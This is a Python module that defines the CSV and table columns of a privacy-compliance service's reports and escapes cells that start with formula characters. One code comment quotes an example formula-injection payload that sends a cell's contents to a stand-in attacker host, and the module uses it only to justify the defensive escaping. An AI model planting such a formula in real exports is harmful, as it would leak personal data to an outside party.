"""The columns of each report's rows, named once for every way they are exported.

A column has a machine name (the HTTP API's CSV header) and a person's title
(the command line's table and CSV header), and reads one value from a row.
The command line, the HTTP API and the console's downloads use these lists,
so the same report has the same columns wherever it is read.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any, Literal, TextIO

from projections.reports.rectification_notices import RectificationReport
from projections.reports.restriction_verdicts import RestrictionReport
from projections.reports.who_saw import ActivityEntry


@dataclass(frozen=True, slots=True)
class Column:
    name: str
    title: str
    value: Callable[[Any], object]


# OWASP's CSV injection advice: a spreadsheet runs a cell that starts with one of
# these as a formula, so such a cell is written with a leading apostrophe, which
# the spreadsheet shows as text. Justifications come from source systems: a
# cell such as =HYPERLINK("http://evil.example/?"&A1) must never run.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(cell: str) -> str:
    """The cell, made safe to open in a spreadsheet."""
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell


def write_csv(
    stream: TextIO,
    rows: Iterable[object],
    columns: Iterable[Column],
    cell: Callable[[object], str],
    header: Literal["name", "title"] = "name",
) -> None:
    """Every CSV the service writes: a header, then each row's cells, each neutralised."""
    columns = tuple(columns)
    writer = csv.writer(stream)
    writer.writerow([getattr(column, header) for column in columns])
    for row in rows:
        writer.writerow([neutralised(cell(column.value(row))) for column in columns])


def _who_saw_justification(entry: ActivityEntry) -> object:
    # Opened for display by the caller (recorded_reads.revealed); sealed text never leaves.
    return entry.justification


WHO_SAW: tuple[Column, ...] = (
    Column("position", "position", lambda e: e.position),
    Column("occurred_at", "when (UTC)", lambda e: e.occurred_at),
    Column("kind", "what", lambda e: e.kind),
    Column("actor", "who", lambda e: e.actor),
    Column("organisation", "organisation", lambda e: e.organisation),
    Column("recipient", "recipient", lambda e: e.recipient),
    Column("categories", "categories", lambda e: e.categories),
    Column("purpose", "purpose", lambda e: e.purpose),
    Column("legal_basis", "basis", lambda e: e.legal_basis),
    Column("source_system", "source system", lambda e: e.source_system),
    Column("justification", "why", _who_saw_justification),
)


DISCLOSURES: tuple[Column, ...] = (
    Column("position", "position", lambda r: r.share.position),
    Column("occurred_at", "when (UTC)", lambda r: r.share.occurred_at),
    Column("share_id", "share id", lambda r: r.share.share_id),
    Column("subjects", "subjects", lambda r: r.share.subject_count),
    Column("categories", "categories", lambda r: r.share.categories),
    Column("purpose", "purpose", lambda r: r.share.purpose),
    Column("legal_basis", "basis", lambda r: r.share.legal_basis),
    Column("agreement", "agreement", lambda r: r.share.agreement),
    Column("receipt", "receipt", lambda r: r.receipt),
    Column("flags", "flags", lambda r: "; ".join(r.flags)),
)


def _count(severity: str) -> Callable[[RestrictionReport], int]:
    return lambda r: sum(1 for reason in r.reasons if reason.severity == severity)


RESTRICTIONS: tuple[Column, ...] = (
    Column("restriction_id", "id", lambda r: r.facts.restriction_id),
    Column("reference", "reference", lambda r: r.facts.reference),
    Column("verdict", "verdict", lambda r: r.verdict),
    Column("requested_at", "requested", lambda r: r.facts.requested_at),
    Column("categories", "categories", lambda r: r.facts.categories),
    Column("breaches", "breaches", _count("breach")),
    Column("pending", "pending", _count("pending")),
)


REQUESTS: tuple[Column, ...] = (
    Column("request_id", "id", lambda r: r.request_id),
    Column("reference", "reference", lambda r: r.reference),
    Column("kind", "kind", lambda r: r.kind),
    Column("status", "status", lambda r: r.status),
    Column("received_on", "received", lambda r: r.received_on),
    Column("starts_on", "clock starts", lambda r: r.deadline.starts_on),
    Column("starts_from", "starts from", lambda r: r.deadline.starts_from),
    Column("paused_days", "paused days", lambda r: r.deadline.paused_days),
    Column(
        "paused_days_not_counted",
        "pause not counted",
        lambda r: r.deadline.paused_days_not_counted,
    ),
    Column("provision", "counted under", lambda r: r.deadline.provision),
    Column("extended", "extended", lambda r: r.deadline.extension_valid),
    Column("due", "due", lambda r: r.deadline.due),
    Column("closed_on", "closed", lambda r: r.closed_on),
)


def _recipients(report: RectificationReport) -> str:
    return ", ".join(f"{x.organisation}: {x.status}" for x in report.recipients)


RECTIFICATIONS: tuple[Column, ...] = (
    Column("rectification_id", "id", lambda r: r.rectification_id),
    Column("reference", "reference", lambda r: r.reference),
    Column("occurred_at", "when", lambda r: r.occurred_at),
    Column("categories", "categories", lambda r: r.categories),
    Column("recipients", "recipients", _recipients),
    Column(
        "outstanding", "outstanding", lambda r: ", ".join(x.organisation for x in r.outstanding)
    ),
)


OBJECTIONS: tuple[Column, ...] = (
    Column("objection_id", "id", lambda r: r.facts.objection_id),
    Column("reference", "reference", lambda r: r.facts.reference),
    Column("verdict", "verdict", lambda r: r.verdict),
    Column("received_at", "received", lambda r: r.facts.received_at),
    Column("purposes", "purposes", lambda r: r.facts.purposes),
    Column("outcome", "outcome", lambda r: r.facts.outcome),
    Column("due", "due", lambda r: r.facts.due),
    Column("breaches", "breaches", _count("breach")),
)
